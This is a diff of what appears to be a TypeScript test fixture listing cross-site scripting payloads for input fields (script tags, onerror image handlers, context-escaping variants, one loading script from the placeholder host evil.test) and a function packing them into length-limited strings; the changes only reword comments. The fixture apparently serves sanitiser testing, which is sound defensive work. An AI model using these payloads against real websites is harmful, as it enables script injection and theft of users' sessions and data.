@@ -1,9 +1,9 @@
 /**
- * Attack strings for fields: every kind from the usual lists, in our own words. A string that ran would call
- * `hacked()`, request something from evil.test, open a dialog, or change the page around it.
+ * Attack strings for fields: every kind from the usual lists, in our own words. A string that is executed
+ * calls `hacked()`, sends a request to evil.test, opens a dialog, or changes the page around it.
  */
 export const payloads = [
-  // A plain script, split, reversed, and after closing various contexts.
+  // Scripts: plain, split, reversed, and after closing various contexts.
   '<script>hacked()</script>',
   '<ScRiPt src=//evil.test/a.js></sCrIpT>',
   '<script/x>hacked()</script/x>',
@@ -20,7 +20,7 @@ export const payloads = [
   '<noscript><p title="</noscript><img src=x onerror=hacked()>">',
   '<template><script>hacked()</script></template>',
   '<![CDATA[<script>hacked()</script>]]>',
-  // Elements that act by themselves, or when they are touched.
+  // Elements that act on load, or when touched.
   '<img src=x onerror=hacked()>',
   '<IMG """><IMG SRC=x ONERROR="hacked()">',
   '<img src=x:x onerror\t=\thacked()//',
@@ -72,7 +72,7 @@ export const payloads = [
   `Z${'\u0300\u0301\u0302\u0303'.repeat(6)}algo ﷽ 𒐫 \uffff end`,
 ] as const
 
-/** All of them, in as few texts of at most the given length as possible. */
+/** Joins all payloads into as few texts of at most the given length as possible. */
 export function packed(most: number): string[] {
   const packs = ['']
   for (const payload of payloads) {
